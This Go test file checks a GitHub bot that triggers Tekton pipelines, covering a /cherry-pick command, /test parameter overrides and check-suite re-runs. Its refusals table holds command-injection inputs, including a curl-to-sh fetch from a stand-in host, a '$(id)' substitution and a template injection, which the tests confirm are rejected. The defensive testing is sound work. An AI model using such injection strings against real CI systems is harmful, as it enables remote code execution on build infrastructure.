package github_test

// Tests for issue 15 on a real apiserver with GitHub's own payloads: a
// command declared in config (/cherry-pick), /test with param overrides,
// and GitHub's "Re-run checks" buttons on a check suite.

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	gh "github.com/google/go-github/v62/github"
	pipelinev1 "github.com/tektoncd/pipeline/pkg/apis/pipeline/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"tekbot/config"
	"tekbot/tekton"
	"tekbot/test/githubtest"
	"tekbot/test/kube"
	"tekbot/transport/github"
)

// cherryPick is the example config's /cherry-pick, on a nightly cluster
// that is this test's namespace. It runs on merged PRs.
var cherryPick = config.Command{
	Verb: "cherry-pick", Help: "cherry-pick this PR onto a release branch", On: config.OnGitHub, When: config.WhenMerged,
	Args:        []config.CommandArg{{Name: "release-branch", Pattern: `release-v\d+\.\d+\.x`}},
	Cluster:     "nightly",
	PipelineRef: "cherry-pick",
	Params: map[string]string{
		"repository": "{{.Repository}}", "pullRequest": "{{.PullRequest}}",
		"commit": "{{.MergeCommit}}", "targetBranch": "{{.Args.release_branch}}",
	},
	Labels:     map[string]string{"cherry-pick-target": "{{.Args.release_branch}}"},
	Workspaces: map[string]config.Workspace{"source": {EmptyDir: true}, "github-token": {Secret: "cherry-pick-token"}},
	Allow:      []string{config.RoleRepoWriters},
}

// declare adds a nightly cluster (this test's namespace too) and commands.
func (e *env) declare(cmds ...config.Command) {
	e.t.Helper()
	nightly := config.Cluster{Name: "nightly", Role: config.RoleNightly, Namespace: e.ns}
	e.cfg.Clusters = append(e.cfg.Clusters, nightly)
	e.cfg.Commands = append(e.cfg.Commands, cmds...)
	c, err := tekton.NewCluster(nightly, nil, e.cluster.REST)
	if err != nil {
		e.t.Fatal(err)
	}
	e.clusters = tekton.NewClusters(append(e.clusters.All(), c)...)
}

// apiClient is tekbot's GitHub client on the stand-in.
func (e *env) apiClient() *github.API {
	client := gh.NewClient(nil)
	u, _ := url.Parse(e.gh.URL())
	client.BaseURL = u
	return github.NewAPIWithClient(client)
}

func (e *env) commandRuns(verb string) []pipelinev1.PipelineRun {
	e.t.Helper()
	list, err := e.cluster.Tekton.TektonV1().PipelineRuns(e.ns).List(context.Background(), metav1.ListOptions{LabelSelector: tekton.LabelCommand + "=" + verb})
	if err != nil {
		e.t.Fatal(err)
	}
	return list.Items
}

func TestCherryPickDeclaredInConfig(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.declare(cherryPick)
	e.closePR(true)
	pr, err := e.apiClient().Get(context.Background(), owner+"/"+repoName, prNumber)
	if err != nil || !pr.Merged || pr.MergeCommitSHA != mergeSHA {
		t.Fatalf("the stand-in should serve the merged PR and its merge commit: %+v %v", pr, err)
	}

	r := e.replica()
	body := e.comment(maintainer, "Needed in the LTS.\n/cherry-pick release-v1.2.x", 7001)
	if code, msg := r.Deliver(t, "issue_comment", "cp-1", body); code != http.StatusAccepted {
		t.Fatalf("/cherry-pick: %d %s", code, msg)
	}
	r.Drain(t)
	runs := e.commandRuns("cherry-pick")
	if len(runs) != 1 {
		t.Fatalf("want one cherry-pick PipelineRun, got %d; reply %q", len(runs), e.lastComment())
	}
	run := runs[0]
	params := map[string]string{}
	for _, p := range run.Spec.Params {
		params[p.Name] = p.Value.StringVal
	}
	want := map[string]string{"repository": owner + "/" + repoName, "pullRequest": "42", "commit": pr.MergeCommitSHA, "targetBranch": "release-v1.2.x"}
	for k, v := range want {
		if params[k] != v {
			t.Errorf("param %s = %q, want %q (all: %v)", k, params[k], v, params)
		}
	}
	if run.Spec.PipelineRef.Name != "cherry-pick" || run.Labels["cherry-pick-target"] != "release-v1.2.x" || len(run.Spec.Workspaces) != 2 ||
		run.Annotations[tekton.AnnotationRequester] != "vincent" || run.Annotations[tekton.AnnotationRequestID] != "cp-1" {
		t.Errorf("run not as templated: ref %v labels %v workspaces %v annotations %v", run.Spec.PipelineRef, run.Labels, run.Spec.Workspaces, run.Annotations)
	}
	if reply := e.lastComment(); !strings.Contains(reply, "vincent started `/cherry-pick release-v1.2.x` (Pipeline cherry-pick) on cluster nightly") {
		t.Errorf("reply: %q", reply)
	}

	// The same delivery again, on another replica: nothing more.
	again := e.replica()
	again.Deliver(t, "issue_comment", "cp-1", body)
	again.Drain(t)
	if n := len(e.commandRuns("cherry-pick")); n != 1 {
		t.Fatalf("a redelivery made %d cherry-pick runs, want 1", n)
	}

	refusals := []struct {
		login, body, want string
	}{
		{maintainer, "/cherry-pick main", "main is not a valid release-branch: it must match `release-v\\d+\\.\\d+\\.x`"},
		{maintainer, "/cherry-pick release-v1.2.x;curl${IFS}-s${IFS}evil.example|sh", "must match `release-v\\d+\\.\\d+\\.x`"},
		{maintainer, "/cherry-pick {{.HeadSHA}}", "must match `release-v\\d+\\.\\d+\\.x`"},
		{maintainer, "/cherry-pick release-v1.2.x $(id)", "takes 1 argument(s), got 2"},
		{maintainer, "/cherry-pick", "needs `<release-branch>`"},
		{contributor, "/cherry-pick release-v1.3.x", "Sorry, you may not run `cherry-pick`. Who may: people with write access to tektoncd/pipeline."},
	}
	for i, tt := range refusals {
		e.say(e.replica(), tt.login, tt.body, int64(7010+i))
		if reply := e.lastComment(); !strings.Contains(reply, tt.want) {
			t.Errorf("%s by %s: reply %q, want it to contain %q", tt.body, tt.login, reply, tt.want)
		}
	}
	if n := len(e.commandRuns("cherry-pick")); n != 1 {
		t.Fatalf("refused commands created runs: %d cherry-pick runs, want 1", n)
	}
}

func TestTestOverridesAllowedParamsOnly(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.cfg.GitHub.Repositories[0].Params = map[string]string{"goVersion": `1\.\d+`}
	unit := e.seed("unit-tests", kube.Failed, false)

	// An unknown name gets a reason and the names there are.
	e.say(e.replica(), maintainer, "/test nonexistent", 7100)
	if reply := e.lastComment(); !strings.Contains(reply, "no pipeline by that name; this commit's pipelines are:\n- unit-tests") || strings.Contains(reply, ": .") {
		t.Fatalf("/test nonexistent: %q", reply)
	}
	e.say(e.replica(), maintainer, "/test unit-tests goVersion=1.23 timeout=1s", 7101)
	if reply := e.lastComment(); !strings.Contains(reply, "timeout cannot be overridden (these can: goVersion)") || len(reruns(e.runs())) != 0 {
		t.Fatalf("a refused key must be named and nothing rerun: %q, reruns %v", reply, keys(reruns(e.runs())))
	}
	e.say(e.replica(), maintainer, "/test unit-tests goVersion=2.0", 7102)
	if reply := e.lastComment(); !strings.Contains(reply, "goVersion=2.0: the value of goVersion must match `1\\.\\d+`") || len(reruns(e.runs())) != 0 {
		t.Fatalf("a refused value must be named and nothing rerun: %q", reply)
	}
	e.say(e.replica(), maintainer, "/test unit-tests goVersion=1.23", 7103)
	rerun, ok := reruns(e.runs())[unit.Name]
	if !ok {
		t.Fatalf("an allowed override should rerun unit-tests: %q", e.lastComment())
	}
	got := map[string]string{}
	for _, p := range rerun.Spec.Params {
		got[p.Name] = p.Value.StringVal
	}
	if got["goVersion"] != "1.23" || got["revision"] != headSHA {
		t.Errorf("rerun params = %v, want goVersion overridden and revision copied", got)
	}
	if reply := e.lastComment(); !strings.Contains(reply, "With goVersion=1.23.") {
		t.Errorf("the reply should say what was overridden: %q", reply)
	}
}

func TestCheckSuiteRerequestedRerunsTheFailedRuns(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	unit := e.seed("unit-tests", kube.Failed, false)
	e2e := e.seed("e2e-tests", kube.TimedOut, false)
	e.seed("build", kube.Succeeded, false)
	suite := func(sender, updated string) []byte {
		return githubtest.CheckSuiteRerequested(t, githubtest.CheckSuiteOptions{
			ID: 88, HeadSHA: headSHA, Sender: sender, SenderType: "User", UpdatedAt: updated,
			Owner: owner, Repo: repoName, PullRequests: []int{prNumber},
		})
	}

	// A reader pressing the button is denied, like a reader's /retest.
	now := time.Now().UTC()
	r := e.replica()
	if code, msg := r.Deliver(t, "check_suite", "suite-reader", suite(contributor, now.Add(-time.Minute).Format(time.RFC3339))); code != http.StatusAccepted {
		t.Fatalf("check_suite: %d %s", code, msg)
	}
	r.Drain(t)
	if got := reruns(e.runs()); len(got) != 0 {
		t.Fatalf("a reader's re-run created runs: %v", keys(got))
	}

	r = e.replica()
	if code, msg := r.Deliver(t, "check_suite", "suite-writer", suite(maintainer, now.Format(time.RFC3339))); code != http.StatusAccepted {
		t.Fatalf("check_suite: %d %s", code, msg)
	}
	r.Drain(t)
	got := reruns(e.runs())
	if len(got) != 2 || got[unit.Name].Name == "" || got[e2e.Name].Name == "" {
		t.Fatalf("want reruns of the failed and timed-out runs only, got %v; reply %q", keys(got), e.lastComment())
	}

	// The recorded sender: the app itself re-requested (a Bot), which
	// tekbot ignores.
	byApp := githubtest.CheckSuiteRerequested(t, githubtest.CheckSuiteOptions{Owner: owner, Repo: repoName, PullRequests: []int{prNumber}, UpdatedAt: now.Format(time.RFC3339)})
	if code, msg := e.replica().Deliver(t, "check_suite", "suite-bot", byApp); code != http.StatusOK || !strings.Contains(msg, "ignored: re-run by a bot") {
		t.Errorf("the app's own re-request: %d %q, want ignored", code, msg)
	}
	if n := len(reruns(e.runs())); n != 2 {
		t.Errorf("after the bot's re-request: %d reruns, want still 2", n)
	}
}
